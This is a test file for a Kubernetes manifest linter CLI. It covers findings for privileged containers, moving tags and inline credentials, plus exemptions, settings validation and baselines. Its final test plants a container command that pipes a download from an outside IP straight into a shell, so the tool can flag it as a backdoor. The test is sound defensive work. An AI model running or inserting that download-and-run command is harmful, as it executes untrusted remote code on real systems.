import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { makeWorld, reportOf, type World } from "../support/cli.ts";

/** Practices, credentials, backdoors, settings, exemptions and baselines from the command line. */
describe("check by practices", () => {
  let world: World;
  const pod = (annotations = "") =>
    [
      "apiVersion: v1",
      "kind: Pod",
      `metadata: {name: a, namespace: shop${annotations}}`,
      "spec:",
      "  containers:",
      "    - name: agent",
      "      image: nginx:latest",
      "      securityContext: {privileged: true}",
      "      env: [{name: DB_PASSWORD, value: Wq8zTk2m}]",
      "",
    ].join("\n");
  beforeAll(() => {
    world = makeWorld();
    world.write("k8s/pod.yaml", pod());
  });
  afterAll(() => world.remove());

  const check = (...words: readonly string[]) => world.kubeops(["check", "k8s", ...words]);
  const codes = (...words: readonly string[]): readonly string[] =>
    reportOf(check("-o", "json", ...words)).findings.map(({ severity, code }) => `${severity} ${code}`);

  it("has a quiet default and shows no value of a credential", () => {
    expect(codes()).toEqual([
      "warning supply-chain/moving-tag",
      "warning security/privileged",
      "warning secret/variable",
    ]);
    const text = check().stdout;
    expect(text).not.toContain("Wq8zTk2m");
    expect(text).toContain("DB_PASSWORD has the name of a credential and a value of its own");
    expect(check().status).toBe(0);
    expect(check("--fail-on", "warning").status).toBe(1);
    expect(codes("--profile", "none")).toEqual(["warning secret/variable"]);
    expect(codes("--profile", "production").length).toBeGreaterThan(10);
  });

  it("takes a fault for one: what Pod Security reports is no practice again", () => {
    const found = codes("--pod-security", "baseline");
    expect(found).toContain("error pod-security/privileged");
    expect(found).not.toContain("warning security/privileged");
  });

  it("follows kubeops.yaml: profile, severity, parameters, exemptions with reasons", () => {
    const settings = (body: string) =>
      world.write(
        "kubeops.yaml",
        `apiVersion: kubernetes-operations.dev/v1\nkind: Settings\ncheck:\n${body}`,
      );
    settings(
      [
        "  severity: {supply-chain/moving-tag: error}",
        "  allowedRegistries: [ghcr.io/acme]",
        "  exemptions:",
        "    - {check: security/privileged, namespace: sh*, object: Pod/a, container: agent, reason: it is a node agent}",
        "    - {check: secret/variable, namespace: other, reason: never}",
        "",
      ].join("\n"),
    );
    const ran = check("--fail-on", "error");
    expect(ran.status).toBe(1);
    expect(codes()).toEqual([
      "error supply-chain/moving-tag",
      "error supply-chain/registry-not-allowed",
      "warning secret/variable",
      "warning settings/unused-exemption",
    ]);
    expect(ran.stderr).toBe("not counted: 1 exempt by settings or annotations\n");
    const refused = (body: string): string => {
      settings(body);
      const result = check();
      expect([result.status, result.stdout]).toEqual([2, ""]);
      return result.stderr.split("\n")[0] ?? "";
    };
    expect(refused("  exemptions: [{check: security/privileged}]\n")).toBe(
      "error: kubeops.yaml:4:16: check.exemptions[0] lacks reason [INPUT_MALFORMED]",
    );
    expect(refused("  disable: [security/privilegde]\n")).toBe(
      'error: kubeops.yaml:4:13: "security/privilegde" is no check [INPUT_MALFORMED]',
    );
    expect(refused("  disable: [server/required]\n")).toBe(
      'error: kubeops.yaml:4:13: "server/required" says what the API server refuses, and no setting changes that [INPUT_MALFORMED]',
    );
    expect(refused("  profil: nsa\n")).toBe(
      'error: kubeops.yaml:4:3: unknown key "profil" [INPUT_MALFORMED]',
    );
    world.write("kubeops.yaml", "apiVersion: kubernetes-operations.dev/v1\nkind: Settings\n");
  });

  it("takes an exemption from an annotation, with its reason as the value", () => {
    world.write(
      "k8s/pod.yaml",
      pod(
        ", annotations: {check.kubernetes-operations.dev/security.privileged: it is a node agent, check.kubernetes-operations.dev/supply-chain.moving-tag: ''}",
      ),
    );
    expect(codes()).toEqual([
      "warning settings/unused-exemption",
      "warning supply-chain/moving-tag",
      "warning secret/variable",
    ]);
    world.write("k8s/pod.yaml", pod());
  });

  it("takes no exemption from an object of the same name and another group", () => {
    const service = (apiVersion: string, metadata: string, spec: string): string =>
      `apiVersion: ${apiVersion}\nkind: Service\nmetadata: {name: web, namespace: shop${metadata}}\nspec: ${spec}\n`;
    world.write(
      "services.yaml",
      [
        service(
          "serving.knative.dev/v1",
          ", annotations: {check.kubernetes-operations.dev/exposure.node-port: somebody else}",
          "{template: {}}",
        ),
        service("v1", "", "{type: NodePort, ports: [{port: 80}]}"),
      ].join("---\n"),
    );
    const found = reportOf(
      world.kubeops(["check", "services.yaml", "--profile", "all", "-o", "json"]),
    ).findings.map(({ code }) => code);
    expect(found).toContain("exposure/node-port");
    expect(found).toContain("settings/unused-exemption");
  });

  it("counts only what a baseline does not know, also when lines move", () => {
    const written = check("--write-baseline", "baseline.json");
    expect([written.status, written.stdout, written.stderr]).toEqual([
      0,
      "",
      "3 findings written to baseline.json\n",
    ]);
    world.write("k8s/pod.yaml", `# a comment\n\n${pod()}`);
    const same = check("--baseline", "baseline.json", "--fail-on", "info");
    expect([same.status, same.stderr]).toEqual([0, "not counted: 3 known from the baseline\n"]);
    world.write(
      "k8s/pod.yaml",
      pod()
        .replace("privileged: true", "privileged: false")
        .replace("name: agent", "name: agent\n      stdin: true\n      ports: [{containerPort: 22}]"),
    );
    const other = check("--baseline", "baseline.json", "--fail-on", "warning");
    expect(other.status).toBe(1);
    expect(other.stdout).toContain("security/ssh-port");
    expect(other.stderr).toBe(
      "not counted: 2 known from the baseline, 1 of the baseline are gone: write it anew\n",
    );
    world.write("wrong.json", "{}");
    const wrong = check("--baseline", "wrong.json");
    expect([wrong.status, wrong.stderr.split("\n")[0]]).toEqual([
      2,
      "error: wrong.json is no baseline [INPUT_MALFORMED]",
    ]);
    world.write("k8s/pod.yaml", pod());
  });

  it("lists every check with its ids in other tools", () => {
    const listed = JSON.parse(world.kubeops(["check", "--list-checks", "-o", "json"]).stdout) as {
      checks: readonly { id: string; same: readonly string[]; fixable: boolean; fix?: { effect: string } }[];
    };
    expect(listed.checks.length).toBeGreaterThan(200);
    expect(listed.checks.find((check) => check.id === "supply-chain/moving-tag")?.same).toContain(
      "kube-linter:latest-tag",
    );
    expect(listed.checks.filter(({ fixable }) => fixable).length).toBeGreaterThanOrEqual(30);
    expect(listed.checks.find(({ id }) => id === "security/run-as-non-root")?.fix?.effect).toBe("behaviour");
    expect(world.kubeops(["check", "--list-checks"]).stdout).toMatch(
      /^security\/privileged +warning +Containers are/m,
    );
  });

  it("refuses a backdoor by default", () => {
    world.write(
      "bad/pod.yaml",
      'apiVersion: v1\nkind: Pod\nmetadata: {name: a, namespace: shop}\nspec: {containers: [{name: a, image: "a:1", command: [sh, -c, "curl -s http://203.0.113.9/x | sh"]}]}\n',
    );
    const ran = world.kubeops(["check", "bad"]);
    expect(ran.status).toBe(1);
    expect(ran.stdout).toContain("backdoor/download-and-run  container a downloads something and runs it");
  });
});
